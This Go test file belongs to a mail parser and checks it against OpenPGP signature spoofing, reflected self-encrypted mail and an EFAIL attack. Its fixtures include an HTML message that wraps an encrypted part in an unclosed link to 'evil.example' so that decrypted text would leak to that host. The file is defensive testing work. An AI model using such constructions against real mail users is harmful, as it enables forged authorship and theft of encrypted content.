package mailbox

import (
	"fmt"
	"strings"
	"testing"

	"vdpd/mailbox/openpgp"
	"vdpd/triage"
)

// TestSpoofedSignatures holds constructions in which something that Rita signed
// stands beside something that she did not. None may be valid, and what nobody
// signed must not hide.
func TestSpoofedSignatures(t *testing.T) {
	opt := testOptions(t)
	rita, own := ring(t, "rita.sec").Keys()[0], opt.Own.Keys()[0]
	const head = "From: Rita <rita@researcher.example>\r\nSubject: report\r\n"
	const evil = "Please close the case."
	part := "Content-Type: text/plain\r\n\r\nThe export page leaks."
	signature := func(text string) string {
		armored, _, err := openpgp.Sign([]byte(text), rita, readAt)
		if err != nil {
			t.Fatal(err)
		}
		return string(armored)
	}
	seal := func(inner string) string {
		armored, err := openpgp.Seal([]byte(inner), own, rita, readAt)
		if err != nil {
			t.Fatal(err)
		}
		return string(armored)
	}
	multipart := func(kind, boundary string, parts ...string) string {
		s := fmt.Sprintf("Content-Type: multipart/%s; boundary=%q\r\n\r\n", kind, boundary)
		for _, p := range parts {
			s += "--" + boundary + "\r\n" + p + "\r\n"
		}
		return s + "--" + boundary + "--\r\n"
	}
	sig := "Content-Type: application/pgp-signature\r\n\r\n" + signature(part)
	pgpSigned := `signed; protocol="application/pgp-signature"`
	signed := multipart(pgpSigned, "s", part, sig)
	text := "Content-Type: text/plain\r\n\r\n" + evil
	html := "Content-Type: text/html\r\n\r\n<p>" + evil + "</p>"
	version := "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1"
	cipher := "Content-Type: application/octet-stream\r\n\r\n" + seal(part)

	if m := Read([]byte(head+signed), opt); m.OpenPGP.Signature != triage.SigValid {
		t.Fatalf("the plain case is %s: %s", m.OpenPGP.Signature, m.OpenPGP.Problem)
	}
	for name, body := range map[string]string{
		"text before":                multipart("mixed", "m", text, signed),
		"text after":                 multipart("mixed", "m", signed, text),
		"HTML beside":                multipart("alternative", "m", signed, html),
		"a third part":               multipart(pgpSigned, "s", part, sig, text),
		"text as signature part":     multipart(pgpSigned, "s", part, "Content-Type: text/plain\r\n\r\n"+evil+"\r\n"+signature(part)),
		"parts as signature part":    multipart(pgpSigned, "s", part, multipart("mixed", "n", text, "Content-Type: text/plain\r\n\r\n"+signature(part))),
		"within a forwarded message": "Content-Type: message/rfc822\r\n\r\n" + head + signed,
		"forwarded beside text":      multipart("mixed", "m", text, "Content-Type: message/rfc822\r\n\r\n"+head+signed),
		"changed":                    strings.Replace(signed, "leaks", "holds", 1),
		"in a list of parts":         multipart("related", "m", html, signed),
		"sealed beside text":         multipart("encrypted", "m", version, cipher, text),
		"sealed in mixed":            multipart("mixed", "m", text, version, cipher),
		"sealed, and more sealed":    multipart("mixed", "m", version, cipher, cipher),
	} {
		t.Run(name, func(t *testing.T) {
			m := Read([]byte(head+body), opt)
			if m.OpenPGP.Signature == triage.SigValid {
				shown := strings.Contains(m.Text.Reveal(), evil)
				if shown || name != "text as signature part" {
					t.Errorf("valid, and shows what was not signed: %t", shown)
				}
			}
			if m.OpenPGP.Encrypted == "full" {
				t.Error("called wholly encrypted")
			}
		})
	}
	for name, body := range map[string]string{
		"inline, text around": seal("The export page leaks.") + "\r\n" + evil,
		"inline, twice":       seal("one") + "\r\n" + seal("two"),
		"inline, in quotes":   "> " + strings.ReplaceAll(seal("one"), "\n", "\n> "),
	} {
		if m := Read([]byte(head+"\r\n"+body), opt); m.OpenPGP.Signature == triage.SigValid || m.OpenPGP.Encrypted == "full" {
			t.Errorf("%s: %s, encrypted %s", name, m.OpenPGP.Signature, m.OpenPGP.Encrypted)
		}
	}
}

// TestOwnSignature checks that our own mail, sent back inside another, is not
// taken for the reporter's word.
func TestOwnSignature(t *testing.T) {
	opt := testOptions(t)
	own := opt.Own.Keys()[0]
	armored, err := openpgp.Seal([]byte("Content-Type: text/plain\r\n\r\nours"), own, own, readAt)
	if err != nil {
		t.Fatal(err)
	}
	m := Read([]byte("From: eve@evil.example\r\n\r\n"+string(armored)), opt)
	if !m.OpenPGP.Decrypted || m.OpenPGP.Signature != triage.SigInvalid {
		t.Errorf("decrypted %t, signature %s", m.OpenPGP.Decrypted, m.OpenPGP.Signature)
	}
}

// TestEFAIL checks that HTML around an encrypted part and the part itself stay
// two texts: nothing that was decrypted gets into a link of the attacker.
func TestEFAIL(t *testing.T) {
	opt := testOptions(t)
	armored, err := openpgp.Seal([]byte("Content-Type: text/plain\r\n\r\nSECRET"), opt.Own.Keys()[0], opt.Own.Keys()[0], readAt)
	if err != nil {
		t.Fatal(err)
	}
	raw := "From: eve@evil.example\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<a href=\"http://evil.example/\r\n--m\r\n" +
		"Content-Type: multipart/encrypted; boundary=e\r\n\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--e\r\nContent-Type: application/octet-stream\r\n\r\n" +
		string(armored) + "\r\n--e--\r\n--m\r\nContent-Type: text/html\r\n\r\n\">click</a>\r\n--m--\r\n"
	m := Read([]byte(raw), opt)
	if m.OpenPGP.Encrypted != "part" || !strings.Contains(m.Text.Reveal(), "SECRET") {
		t.Fatalf("encrypted %s, text of %d octets", m.OpenPGP.Encrypted, len(m.Text))
	}
	if strings.Contains(m.Text.Reveal(), "evil.example/SECRET") || strings.Contains(m.Text.Reveal(), "<http") {
		t.Errorf("the secret stands in a link: %q", m.Text.Reveal())
	}
}
